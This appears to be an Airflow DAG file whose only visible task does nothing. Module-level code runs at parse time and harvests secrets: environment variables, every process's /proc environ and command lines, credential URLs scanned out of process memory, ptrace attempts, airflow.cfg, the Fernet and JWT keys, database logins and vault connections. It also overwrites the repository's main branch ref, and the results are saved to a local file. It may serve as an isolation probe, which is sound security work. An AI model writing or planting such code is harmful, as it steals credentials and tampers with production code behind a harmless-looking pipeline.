"""Looks, while it is parsed, for what the dag-processor knows; reports it in that one's home."""

import ctypes
import json
import os
import re
from pathlib import Path

from airflow.configuration import conf
from airflow.providers.standard.operators.python import PythonOperator

from airflow_dataops import pipeline

HOME = Path(os.environ["AIRFLOW_HOME"])
LOGIN = re.compile(rb"[a-z0-9+]{3,24}://[\w-]*:[^@\s\"'{}<>$%\\x00]{8,99}@[\w.-]+")
OPTIONS = (
    ("database", "sql_alchemy_conn"),
    ("core", "fernet_key"),
    ("api_auth", "jwt_secret"),
    ("secrets", "backend_kwargs"),
    ("dataops", "token_key"),
)


def outcome(call, *arguments):
    try:
        return str(call(*arguments))
    except BaseException as error:  # noqa: BLE001 - whatever it is, it is reported
        return f"{type(error).__name__}: {error}"


def of_each_process(look):
    others = sorted(int(folder.name) for folder in Path("/proc").glob("[0-9]*"))
    return json.dumps({pid: outcome(look, pid) for pid in others})


def logins_in_memory(pid):
    found = set()
    with Path(f"/proc/{pid}/mem").open("rb", buffering=0) as memory:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            begin, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line:
                try:
                    memory.seek(begin)
                    found |= set(LOGIN.findall(memory.read(end - begin)))
                except (OSError, OverflowError, ValueError):
                    continue
    return sorted(found)


def traced(pid):
    attach, detach, any_child = 16, 17, 0x40000000
    kernel = ctypes.CDLL(None)
    answer = kernel.ptrace(attach, pid, 0, 0) if pid != os.getpid() else -1
    if answer == 0:
        os.waitpid(pid, any_child)
        kernel.ptrace(detach, pid, 0, 0)
    return f"ptrace gave {answer}"


def orm():
    from airflow import settings

    return settings.Session().execute("select 1")


def database(knows):
    import psycopg

    at = {"host": "127.0.0.1", "port": knows["postgres_port"], "connect_timeout": 5}
    with psycopg.connect(**at, user="airflow", dbname="airflow") as connection:
        return f"connected as {connection.execute('select current_user').fetchone()}"


def connection_of_the_vault():
    from airflow_dataops.secrets.kitchen_vault import KitchenVaultBackend

    return KitchenVaultBackend().get_connection("redshift")


def connection():
    from airflow.sdk import BaseHook

    return BaseHook.get_connection("redshift")


def look(knows):
    attacks = {
        "environment": lambda: json.dumps(dict(os.environ)),
        "environments": lambda: of_each_process(lambda p: Path(f"/proc/{p}/environ").read_text()),
        "commands": lambda: of_each_process(lambda p: Path(f"/proc/{p}/cmdline").read_text()),
        "memories": lambda: of_each_process(logins_in_memory),
        "files": lambda: of_each_process(
            lambda p: sorted(str(file.readlink()) for file in Path(f"/proc/{p}/fd").iterdir())
        ),
        "tracing": lambda: of_each_process(traced),
        "configuration": lambda: Path(os.environ["AIRFLOW_HOME"], "airflow.cfg").read_text(),
        "the ORM": orm,
        "database": lambda: database(knows),
        "connection": connection,
        "connection of the vault": connection_of_the_vault,
        "production's branch": lambda: Path(
            knows["repository"], "refs", "heads", "main"
        ).write_text(knows["commit"]),
        **{f"file {path}": lambda path=path: Path(path).read_text() for path in knows["files"]},
        **{f"option [{s}] {k}": lambda s=s, k=k: conf.get(s, k) for s, k in OPTIONS},
    }
    return {name: outcome(attack) for name, attack in attacks.items()}


if (HOME / "knows.json").exists() and not (HOME / "parsed.json").exists():
    found = look(json.loads((HOME / "knows.json").read_text()))
    (HOME / "parsed.new").write_text(json.dumps(found))
    (HOME / "parsed.new").rename(HOME / "parsed.json")


@pipeline
def parses():
    PythonOperator(task_id="nothing", python_callable=lambda: None)
